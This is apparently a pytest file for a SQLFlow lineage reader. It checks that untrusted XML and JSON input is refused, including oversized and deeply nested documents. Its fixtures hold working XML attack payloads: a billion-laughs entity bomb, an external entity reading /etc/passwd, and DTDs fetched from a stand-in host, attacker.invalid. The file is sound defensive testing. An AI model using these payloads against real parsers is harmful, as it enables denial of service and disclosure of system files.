"""Untrusted SQLFlow input: entity attacks and over-size documents are refused, nothing is expanded."""

from __future__ import annotations

import json

import pytest

from atlas_bridge.errors import ExtractionError, UnsafeInputError
from atlas_bridge.sqlflow.read import extract_sqlflow_lineage

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE dlineage [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dlineage><table id="1" name="&lol9;"/></dlineage>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<dlineage><table id="1" name="&xxe;"><column id="2" name="a"/></table></dlineage>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE dlineage SYSTEM "http://attacker.invalid/evil.dtd">
<dlineage/>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<dlineage/>
"""

PLAIN_DTD = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ELEMENT dlineage ANY>]>
<dlineage/>
"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "plain-dtd"],
)
@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_entity_and_dtd_attacks_are_refused(doc: str, as_bytes: bool) -> None:
    data = doc.encode("utf-8") if as_bytes else doc
    with pytest.raises(UnsafeInputError) as err:
        extract_sqlflow_lineage(data, file="evil.xml")
    message = str(err.value)
    assert message.startswith("evil.xml: refused XML")
    assert "nothing was" in message
    assert "root:" not in message  # no expansion leaked into the error
    assert "lollol" not in message
    assert err.value.file == "evil.xml"


def test_attack_inside_a_fragment_is_still_refused() -> None:
    # a DOCTYPE after a first element is not a fragment to be wrapped: it must fail, never expand
    doc = '<table id="1" name="t"/>\n<!DOCTYPE x [<!ENTITY a "b">]><table id="2" name="&a;"/>'
    with pytest.raises(ExtractionError):
        extract_sqlflow_lineage(doc, file="frag.xml")


def test_over_size_xml_is_refused_before_parsing() -> None:
    doc = "<dlineage>" + '<table id="1" name="t"/>' * 100 + "</dlineage>"
    with pytest.raises(
        UnsafeInputError, match=r"^big\.xml: input is \d+ bytes, over the limit of 1000 bytes"
    ):
        extract_sqlflow_lineage(doc, file="big.xml", max_bytes=1000)
    with pytest.raises(UnsafeInputError, match="over the limit"):
        extract_sqlflow_lineage(doc.encode(), file="big.xml", max_bytes=1000)
    # multi-byte text: the limit is on bytes, not characters
    wide = '<dlineage><table id="1" name="' + "é" * 480 + '"/></dlineage>'
    assert len(wide) < 1000 < len(wide.encode("utf-8"))
    with pytest.raises(UnsafeInputError, match="over the limit"):
        extract_sqlflow_lineage(wide, max_bytes=1000)
    assert extract_sqlflow_lineage(wide, max_bytes=2000).lineage.datasets


def test_over_size_json_is_refused() -> None:
    doc = json.dumps({"dbobjs": [{"id": str(i), "name": f"t{i}", "type": "table"} for i in range(100)]})
    with pytest.raises(UnsafeInputError, match=r"^big\.json: input is \d+ bytes, over the limit"):
        extract_sqlflow_lineage(doc, file="big.json", max_bytes=1000)
    assert len(extract_sqlflow_lineage(doc, file="big.json").lineage.datasets) == 100


def test_deeply_nested_json_is_refused_cleanly() -> None:
    doc = "[" * 100_000 + "]" * 100_000
    with pytest.raises(ExtractionError):
        extract_sqlflow_lineage(doc, file="deep.json")
